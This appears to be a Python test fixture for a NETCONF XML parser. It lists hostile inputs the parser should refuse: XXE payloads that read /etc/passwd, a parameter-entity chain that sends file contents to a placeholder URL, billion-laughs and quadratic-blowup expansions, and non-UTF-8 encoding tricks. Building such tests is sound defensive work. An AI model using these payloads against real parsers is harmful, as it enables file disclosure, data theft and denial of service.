"""Hostile XML for the NETCONF parser: the OWASP XXE list and encoding tricks, as NETCONF
messages. Each names a file that exists, so a parser that opened it would be seen by strace.

``REFUSED_DOCTYPE``: every one is refused with the one DOCTYPE error. ``REFUSED_ENCODING``:
refused as not UTF-8. ``HARMLESS``: XML features that look like fetching something but are
plain elements, attributes or comments to a NETCONF parser; they parse.
"""

NC = "urn:ietf:params:xml:ns:netconf:base:1.0"
RPC_BODY = f'<rpc message-id="1" xmlns="{NC}"><get/></rpc>'
# files that exist on every Debian machine; /dev/stdin froze the emulator before
EXISTING_FILE = "/etc/passwd"


def _with_doctype(doctype: str, body: str = RPC_BODY) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}\n{body}'.encode()


HELLO = (
    f'<hello xmlns="{NC}"><capabilities><capability>urn:ietf:params:netconf:base:1.1'
    "</capability></capabilities></hello>"
)

REFUSED_DOCTYPE: dict[str, bytes] = {
    "system-file": _with_doctype(f'<!DOCTYPE rpc SYSTEM "{EXISTING_FILE}">'),
    "system-missing-file": _with_doctype('<!DOCTYPE rpc SYSTEM "/nonexistent/missing.dtd">'),
    "system-dev-stdin": _with_doctype('<!DOCTYPE rpc SYSTEM "/dev/stdin">'),
    "system-file-url": _with_doctype(f'<!DOCTYPE rpc SYSTEM "file://{EXISTING_FILE}">'),
    "system-http": _with_doctype('<!DOCTYPE rpc SYSTEM "http://127.0.0.1:1/evil.dtd">'),
    "public": _with_doctype(f'<!DOCTYPE rpc PUBLIC "-//EVIL//DTD x//EN" "{EXISTING_FILE}">'),
    "public-catalog-only": _with_doctype('<!DOCTYPE rpc PUBLIC "-//W3C//DTD XHTML 1.0//EN" "">'),
    "external-entity": _with_doctype(
        f'<!DOCTYPE rpc [<!ENTITY xxe SYSTEM "file://{EXISTING_FILE}">]>',
        f'<rpc message-id="1" xmlns="{NC}"><get><filter>&xxe;</filter></get></rpc>',
    ),
    "external-entity-in-attribute": _with_doctype(
        f'<!DOCTYPE rpc [<!ENTITY xxe SYSTEM "{EXISTING_FILE}">]>',
        f'<rpc message-id="&xxe;" xmlns="{NC}"><get/></rpc>',
    ),
    "parameter-entity": _with_doctype(
        f'<!DOCTYPE rpc [<!ENTITY % p SYSTEM "{EXISTING_FILE}"> %p;]>'
    ),
    "parameter-entity-nested": _with_doctype(
        f'<!DOCTYPE rpc [<!ENTITY % file SYSTEM "file://{EXISTING_FILE}">'
        "<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:1/?x=%file;'>\">"
        "%eval; %exfil;]>"
    ),
    "parameter-entity-public": _with_doctype(
        f'<!DOCTYPE rpc [<!ENTITY % p PUBLIC "-//x//y" "{EXISTING_FILE}"> %p;]>'
    ),
    "unparsed-entity": _with_doctype(
        f'<!DOCTYPE rpc [<!NOTATION n SYSTEM "x"><!ENTITY u SYSTEM "{EXISTING_FILE}" NDATA n>]>'
    ),
    "internal-subset-and-system": _with_doctype(
        f'<!DOCTYPE rpc SYSTEM "{EXISTING_FILE}" [<!ELEMENT rpc ANY>]>'
    ),
    "billion-laughs": _with_doctype(
        '<!DOCTYPE rpc [<!ENTITY a "aaaaaaaaaa">'
        + "".join(
            f'<!ENTITY {chr(ord("a") + i + 1)} "{("&" + chr(ord("a") + i) + ";") * 10}">'
            for i in range(9)
        )
        + "]>",
        f'<rpc message-id="&j;" xmlns="{NC}"><get/></rpc>',
    ),
    "quadratic-blowup": _with_doctype(
        f'<!DOCTYPE rpc [<!ENTITY x "{"x" * 10000}">]>',
        f'<rpc message-id="1" xmlns="{NC}"><get><filter>{"&x;" * 1000}</filter></get></rpc>',
    ),
    "after-comments-and-pis": (
        '<?xml version="1.0"?><!-- a comment --><?pi data?>\n\t'
        f'<!DOCTYPE rpc SYSTEM "{EXISTING_FILE}">{RPC_BODY}'
    ).encode(),
    "without-declaration": f'<!DOCTYPE rpc SYSTEM "{EXISTING_FILE}">{RPC_BODY}'.encode(),
    "utf8-bom": b"\xef\xbb\xbf" + _with_doctype(f'<!DOCTYPE rpc SYSTEM "{EXISTING_FILE}">'),
    "in-hello": _with_doctype(f'<!DOCTYPE hello SYSTEM "{EXISTING_FILE}">', HELLO),
}

REFUSED_ENCODING: dict[str, bytes] = {
    "utf7-declared": (
        '<?xml version="1.0" encoding="UTF-7"?>'
        f"+ADw-!DOCTYPE rpc SYSTEM +ACI-{EXISTING_FILE}+ACI-+AD4-{RPC_BODY}"
    ).encode(),
    "utf16-with-bom": (
        f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE rpc SYSTEM "{EXISTING_FILE}">{RPC_BODY}'
    ).encode("utf-16"),
    "utf16le-without-bom": (
        f'<?xml version="1.0" encoding="UTF-16LE"?><!DOCTYPE rpc SYSTEM "{EXISTING_FILE}">'
        f"{RPC_BODY}"
    ).encode("utf-16-le"),
    "utf16be-without-declaration": (
        f'<!DOCTYPE rpc SYSTEM "{EXISTING_FILE}">{RPC_BODY}'.encode("utf-16-be")
    ),
    "utf32": (
        f'<?xml version="1.0" encoding="UTF-32"?><!DOCTYPE rpc SYSTEM "{EXISTING_FILE}">{RPC_BODY}'
    ).encode("utf-32"),
    "utf16-declared-in-utf8": _with_doctype(f'<!DOCTYPE rpc SYSTEM "{EXISTING_FILE}">').replace(
        b"UTF-8", b"UTF-16"
    ),
    "latin1-declared": (
        '<?xml version="1.0" encoding="ISO-8859-1"?>'
        f'<!DOCTYPE rpc SYSTEM "{EXISTING_FILE}">{RPC_BODY}'
    ).encode("latin-1"),
    "ebcdic-declared": b'<?xml version="1.0" encoding="IBM037"?>' + RPC_BODY.encode(),
    "utf16-bom-utf8-declared": b"\xff\xfe"
    + _with_doctype(f'<!DOCTYPE rpc SYSTEM "{EXISTING_FILE}">'),
}

HARMLESS: dict[str, bytes] = {
    "xinclude": (
        f'<rpc message-id="1" xmlns="{NC}" xmlns:xi="http://www.w3.org/2001/XInclude">'
        f'<get><filter><xi:include href="file://{EXISTING_FILE}" parse="text"/></filter></get>'
        "</rpc>"
    ).encode(),
    "schema-location": (
        f'<rpc message-id="1" xmlns="{NC}" '
        'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
        f'xsi:schemaLocation="{NC} file://{EXISTING_FILE}" '
        f'xsi:noNamespaceSchemaLocation="{EXISTING_FILE}"><get/></rpc>'
    ).encode(),
    "stylesheet-pi": (
        f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{EXISTING_FILE}"?>{RPC_BODY}'
    ).encode(),
    "doctype-in-cdata": (
        f'<rpc message-id="1" xmlns="{NC}"><get><filter><![CDATA[<!DOCTYPE rpc SYSTEM '
        f'"{EXISTING_FILE}">]]></filter></get></rpc>'
    ).encode(),
    "doctype-in-comment": (f'<!-- <!DOCTYPE rpc SYSTEM "{EXISTING_FILE}"> -->{RPC_BODY}'.encode()),
    "file-url-as-namespace": (
        f'<rpc message-id="1" xmlns="{NC}"><get><filter><x xmlns="file://{EXISTING_FILE}"/>'
        "</filter></get></rpc>"
    ).encode(),
    "utf8-bom-and-lowercase-encoding": (
        b'\xef\xbb\xbf<?xml version="1.0" encoding="utf-8"?>' + RPC_BODY.encode()
    ),
}
